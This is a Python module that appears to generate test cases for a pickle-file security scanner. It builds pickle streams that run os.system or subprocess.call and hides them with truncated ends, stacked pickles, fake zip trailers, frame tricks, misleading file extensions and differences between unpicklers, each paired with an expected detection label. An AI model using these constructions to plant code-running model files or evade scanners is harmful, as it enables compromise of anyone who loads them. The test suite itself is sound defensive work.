"""What stands before, behind and between the opcodes: broken ends, stacked pickles, frames, persistent ids, buffers.

With a payload such a file runs before it fails. Without one it is hygiene: nothing runs, but a reader that says
"clean" has not looked at all of it.
"""

import struct

from asm import (
    BINPERSID,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    MARK,
    NEXT_BUFFER,
    NONE,
    POP,
    POP_MARK,
    READONLY_BUFFER,
    REDUCE,
    SH,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    Ops,
    call,
    drop,
    frame,
    framed,
    get,
    join,
    named,
    old_global,
    proto,
    push,
    put,
    stream,
    text_call,
    tup,
)
from cases import hygiene, runs

TECHNIQUE = "streams"
PAYLOAD = call("os system", SH)
BENIGN = {"coef_": [0.5, 1.5], "intercept_": 0.0}
PLAIN = stream(push(BENIGN))
ZIP_END = b"PK\x05\x06" + bytes(18)  # an empty archive is only this record


def broken_ends():
    tails = (
        ("truncated", b"", "raises:EOFError", "pickle-truncated"),
        ("truncated_in_argument", b"\x8c\x10abc", "raises:UnpicklingError", "pickle-truncated"),
        ("truncated_in_length", b"X\x10\0", "raises:UnpicklingError", "pickle-truncated"),
        ("truncated_line", b"cos\nsys", "raises:UnpicklingError", "pickle-truncated"),
        ("unknown_opcode", b"\xff.", "raises:UnpicklingError", "pickle-bad-opcode"),
        ("unknown_opcode_nul", b"\0.", "raises:UnpicklingError", "pickle-bad-opcode"),
        ("stack_underflow", b"0000.", "raises:UnpicklingError", "pickle-bad-stack"),
        ("mark_missing", b"t.", "raises:UnpicklingError", "pickle-bad-stack"),
        ("memo_miss", b"h\xc8.", "raises:UnpicklingError", "pickle-memo-miss"),
        ("memo_miss_text", b"g12345\n.", "raises:UnpicklingError", "pickle-memo-miss"),
        ("protocol_6", b"\x80\x06.", "raises:ValueError", None),
        ("protocol_255", b"\x80\xff.", "raises:ValueError", None),
        ("bad_int", b"Iabc\n.", "raises:ValueError", "pickle-bad-argument"),
        ("bad_float", b"Fabc\n.", "raises:ValueError", "pickle-bad-argument"),
        ("bad_string", b"Sabc\n.", "raises:UnpicklingError", "pickle-bad-argument"),
        ("bad_utf8", b"\x8c\x01\xff.", "raises:UnicodeDecodeError", "pickle-bad-argument"),
        ("negative_length", b"T\xff\xff\xff\xff.", "raises", "pickle-truncated"),
        ("negative_long", b"\x8b\xff\xff\xff\xff.", "raises:UnpicklingError", "pickle-bad-argument"),
        ("negative_put", b"Np-1\n.", "raises:ValueError", "pickle-bad-argument"),
        ("ext_unknown", b"\x82\xf0.", "raises:ValueError", "pickle-extension"),
        ("ext_zero", b"\x82\0.", "raises:UnpicklingError", "pickle-bad-argument"),
        ("persistent_id", push("key") + b"Q.", "raises:UnpicklingError", "pickle-persistent-id"),
        ("persistent_id_text", b"Pkey\n.", "raises:UnpicklingError", "pickle-persistent-id"),
        ("next_buffer", b"\x97.", "raises:UnpicklingError", "pickle-buffer"),
        ("stack_global_of_int", b"K\1K\2\x93.", "raises:UnpicklingError", "pickle-type-error"),
        ("reduce_of_int", b"K\1)R.", "raises:TypeError", "pickle-type-error"),
        ("newobj_of_function", named("math sqrt") + b")\x81.", "raises:UnpicklingError", None),
        ("build_of_int", b"K\1}K\2K\3sb.", "raises:AttributeError", "pickle-type-error"),
        ("setitem_of_int", b"K\1K\2K\3s.", "raises:TypeError", "pickle-type-error"),
        ("append_of_int", b"K\1K\2a.", "raises:AttributeError", "pickle-type-error"),
        ("unhashable_key", b"}]K\1s.", "raises:TypeError", "pickle-type-error"),
        ("odd_setitems", b"}(K\1u.", "raises:UnpicklingError", "pickle-bad-stack"),
        ("odd_dict", b"(K\1d.", "raises:UnpicklingError", "pickle-bad-stack"),
        ("module_unknown", named("no_such_module_at_all x") + b".", "raises:ModuleNotFoundError", None),
        ("global_newline_missing", b"cos.", "raises:UnpicklingError", "pickle-truncated"),
        ("frame_overlong", b"\x95\xff\0\0\0\0\0\0\0N.", "raises:UnpicklingError", "pickle-frame"),
        ("frame_in_frame", frame(frame(b"N")) + b".", "loads", "pickle-frame"),
    )
    for name, tail, outcome, expect in tails:
        yield runs(
            "payload_then_" + name,
            proto(4) + drop(PAYLOAD) + Ops(tail),
            "os.system",
            "what was read has run when the stream breaks",
            expect="call-dangerous",
        )
        if name != "module_unknown":
            yield hygiene("hygiene_" + name, proto(4) + push(BENIGN) + POP + Ops(tail), outcome, expect=expect)


def behind():
    """Bytes after STOP. pickle.load does not look at them; whoever calls it again does."""
    payload = stream(PAYLOAD)
    yield runs("stacked_second", PLAIN + payload, "os.system", loader="pickle-all", expect="pickle-stacked")
    yield runs("stacked_tenth", PLAIN * 9 + payload, "os.system", loader="pickle-all", expect="pickle-stacked")
    yield runs("stacked_after_payload", payload + PLAIN, "os.system", expect="pickle-stacked")
    yield runs("stacked_other_protocol", PLAIN + text_call("os system", SH) + STOP, "os.system", loader="pickle-all")
    yield runs(
        "stacked_memo_separate",
        stream(named("math sqrt"), put(0))
        + proto(4)
        + push("os")
        + put(0)
        + POP
        + get(0)
        + push("system")
        + STACK_GLOBAL
        + tup(SH)
        + REDUCE
        + STOP,
        "os.system",
        loader="pickle-all",
        note="each pickle has a memo of its own",
    )
    yield runs(
        "payload_then_zip_end",
        payload + ZIP_END,
        "os.system",
        "an archive for a scanner that looks for one",
        expect="pickle-beside-archive",
    )
    yield runs("payload_then_zip_end_dat", payload + ZIP_END, "os.system", "the same under another extension")
    yield runs("payload_then_garbage", payload + bytes(range(256)) * 4, "os.system", expect="pickle-trailing-data")
    yield runs("payload_then_text", payload + b"\n# end of model\n", "os.system", expect="pickle-trailing-data")
    yield runs("payload_then_gzip_magic", payload + b"\x1f\x8b\x08\0", "os.system")
    yield hygiene("hygiene_stacked", PLAIN + PLAIN, "loads", expect="pickle-stacked")
    yield hygiene("hygiene_trailing", PLAIN + b"trailing", "loads", expect="pickle-trailing-data")
    yield hygiene("hygiene_trailing_zip_end", PLAIN + ZIP_END, "loads", expect="pickle-beside-archive")
    yield hygiene("hygiene_left_on_stack", stream(push("below"), push(BENIGN)), "loads", expect="pickle-left-on-stack")
    yield hygiene("hygiene_left_mark", stream(MARK, push(BENIGN)), "loads", expect="pickle-left-on-stack")
    yield hygiene("hygiene_empty", b"", "raises:EOFError")
    yield hygiene("hygiene_stop_only", STOP, "raises:UnpicklingError", expect="kind-unknown")
    yield hygiene("hygiene_proto_only", proto(4), "raises:EOFError", expect="pickle-truncated")


def protocols():
    yield runs("no_proto", named("os system") + tup(SH) + REDUCE + STOP, "os.system")
    yield runs("proto_0", stream(PAYLOAD, protocol=0), "os.system")
    yield runs(
        "proto_in_the_middle",
        proto(2)
        + push("os")
        + proto(4)
        + push("system")
        + proto(0)
        + STACK_GLOBAL
        + tup(SH)
        + proto(1)
        + REDUCE
        + STOP,
        "os.system",
    )
    yield runs("proto_falls_behind_opcodes", stream(PAYLOAD, protocol=1), "os.system", "opcodes of 4 under protocol 1")
    yield runs("frame_in_protocol_0", frame(PAYLOAD + STOP), "os.system", "FRAME without PROTO")
    yield runs(
        "frames_of_one_byte_tail",
        proto(4) + frame(named("os system")) + frame(tup(SH) + REDUCE) + frame(STOP),
        "os.system",
    )
    yield runs("frame_empty", proto(4) + frame(b"") + frame(PAYLOAD + STOP), "os.system")
    yield runs(
        "frame_too_short",
        proto(4) + frame(PAYLOAD + STOP, 5),
        "os.system",
        "its end is inside an opcode",
        expect="pickle-frame",
    )
    yield runs("pop_mark_result", stream(MARK, PAYLOAD, push(1), POP_MARK, push(BENIGN)), "os.system")
    yield runs("dup_result", stream(PAYLOAD, DUP, POP, POP, push(BENIGN)), "os.system")
    yield runs("dup_callable", stream(named("os system"), DUP, tup(SH), REDUCE, POP, POP, push(BENIGN)), "os.system")
    yield runs(
        "dup_mark_tuple",
        stream(MARK, named("os system"), push(SH), TUPLE, put(0), POP, call("operator call", named("os system"), SH)),
        "operator.call",
    )
    yield runs("payload_as_dict_key", stream(EMPTY_DICT, PAYLOAD, NONE, Ops(b"s")), "os.system")
    yield runs("payload_in_arguments", stream(call("collections OrderedDict", [("a", PAYLOAD)])), "os.system")
    yield runs(
        "payload_in_state", stream(named("argparse Namespace"), Ops(b")\x81"), push({"a": PAYLOAD}), BUILD), "os.system"
    )
    yield runs("payload_in_set", stream(Ops(b"\x8f("), PAYLOAD, Ops(b"\x90")), "os.system")
    yield runs("payload_deep", stream(join([Ops(b"]")] * 5000), PAYLOAD, join([Ops(b"a")] * 5000)), "os.system")
    yield runs(
        "payload_after_a_million_bytes",
        stream(push(b"\0" * 1_000_000), POP, PAYLOAD),
        "os.system",
        "behind what a reader of the first part sees",
    )
    yield runs("payload_after_many_opcodes", stream(join([push(1) + POP] * 200_000), PAYLOAD), "os.system")
    yield runs(
        "payload_between_big_lists", stream(push(list(range(3000))), POP, PAYLOAD, POP, push([0.5] * 3000)), "os.system"
    )
    yield runs(
        "opcodes_in_bytes", stream(push(bytes(stream(push(1)))), POP, PAYLOAD), "os.system", "a decoy STOP in a string"
    )
    yield runs("persistent_then_payload", stream(drop(PAYLOAD), push("a"), BINPERSID), "os.system")
    yield runs(
        "buffer_then_payload",
        stream(NEXT_BUFFER, READONLY_BUFFER, POP, PAYLOAD, protocol=5),
        "os.system",
        loader="pickle-buffers",
        expect="call-dangerous",
    )
    yield runs("long_text_then_payload", stream(Ops(b"L" + b"7" * 4000 + b"L\n"), POP, PAYLOAD), "os.system")
    yield hygiene(
        "hygiene_long_text",
        stream(Ops(b"L" + b"9" * 100_000 + b"L\n")),
        "raises:ValueError",
        "int() refuses long texts since 3.11",
    )
    yield hygiene(
        "hygiene_buffers", stream(NEXT_BUFFER, protocol=5), "loads", loader="pickle-buffers", expect="pickle-buffer"
    )
    yield hygiene("hygiene_frame_short", proto(4) + frame(push(BENIGN) + STOP, 5), "loads", expect="pickle-frame")
    yield hygiene(
        "hygiene_frame_straddle",
        proto(4) + Ops(b"\x95" + struct.pack("<Q", 12)) + push(b"abcdefgh" * 4) + STOP,
        "loads",
        expect="pickle-frame",
    )


def extensions_of_files():
    """The name of a file says nothing (CVE-2025-10155: a scanner that trusts the extension)."""
    for extension in (
        "bin",
        "pt",
        "pth",
        "ckpt",
        "sav",
        "model",
        "dat",
        "joblib",
        "pickle",
        "skops",
        "npy",
        "npz",
        "zip",
        "txt",
        "json",
        "png",
        "h5",
        "onnx",
        "safetensors",
        "gz",
    ):
        yield runs(f"named.{extension}", framed(PAYLOAD), "os.system", "a plain pickle")
    yield runs("no_extension_at_all.", framed(PAYLOAD), "os.system")
    yield runs("text.py", text_call("os system", SH) + STOP, "os.system")


def mixed_readers():
    """Both are loaded, but C and Python read them differently."""
    for name, ops, loader in (
        ("int_bool_like", Ops(b"I010\n"), "pickle"),
        ("int_with_nul", Ops(b"I5\0\n"), "pickle"),
        ("float_underscore", Ops(b"F1_0\n"), "pickle.py"),
        ("float_space", Ops(b"F 1.5\n"), "pickle.py"),
        ("float_overflow", Ops(b"F1e999\n"), "pickle.py"),
    ):
        yield runs(
            "only_" + loader.replace(".", "_") + "_" + name,
            stream(ops, POP, PAYLOAD),
            "os.system",
            "the other unpickler stops at the number",
            loader=loader,
        )
        yield hygiene(
            "hygiene_only_" + loader.replace(".", "_") + "_" + name,
            stream(ops),
            "loads",
            loader=loader,
            expect="pickle-readers-differ",
        )
    yield runs(
        "only_python_overlong_frame",
        proto(4) + frame(PAYLOAD + STOP, 4000),
        "os.system",
        loader="pickle.py",
        expect="pickle-readers-differ",
    )
    yield runs(
        "only_python_build_list", stream(EMPTY_LIST, EMPTY_DICT, BUILD, POP, PAYLOAD), "os.system", loader="pickle.py"
    )
    # APPEND on a stranger: C calls extend with a list, pickle.py calls append.
    thing = (
        named("argparse Namespace")
        + Ops(b")\x81")
        + push({"append": named("builtins print"), "extend": named("subprocess call")})
        + BUILD
    )
    yield runs("only_c_extend", stream(thing, MARK, push("sh"), push("-c"), push(SH), Ops(b"e")), "subprocess.call")
    thing = (
        named("argparse Namespace")
        + Ops(b")\x81")
        + push({"append": named("os system"), "extend": named("builtins print")})
        + BUILD
    )
    yield runs("only_python_append", stream(thing, push(SH), Ops(b"a")), "os.system", loader="pickle.py")
    # The bytes argument runs over the frame's end: a reader that goes by frames finds opcodes in it.
    inner = bytes(PAYLOAD + STOP)
    head = b"B" + struct.pack("<I", 4 + len(inner))
    yield runs(
        "straddle_hides_payload",
        proto(4)
        + Ops(b"\x95" + struct.pack("<Q", 6) + b"K\x01" + b"0" + b"C\x04")
        + Ops(b"aaaa")
        + POP
        + PAYLOAD
        + STOP,
        "os.system",
        "the frame ends within the bytes: CPython before 3.13.15 and 3.14.7 does not look at its end",
        expect="pickle-frame",
    )
    yield hygiene(
        "hygiene_straddle_decoy",
        proto(4) + Ops(b"\x95" + struct.pack("<Q", len(head)) + head + b"aaaa" + inner) + STOP,
        "loads",
        "the payload is data for CPython before 3.13.15 and 3.14.7",
        expect="pickle-frame",
    )
    yield runs("global_crlf", Ops(b"cos\nsystem\n(V" + SH.encode() + b"\ntR.\r\n"), "os.system")
    yield runs(
        "memo_zero_padded",
        stream(old_global("os system"), Ops(b"p0000000000000000000001\n0g1\n"), tup(SH), REDUCE),
        "os.system",
    )


def cases():
    for part in (broken_ends, behind, protocols, extensions_of_files, mixed_readers):
        yield from part()
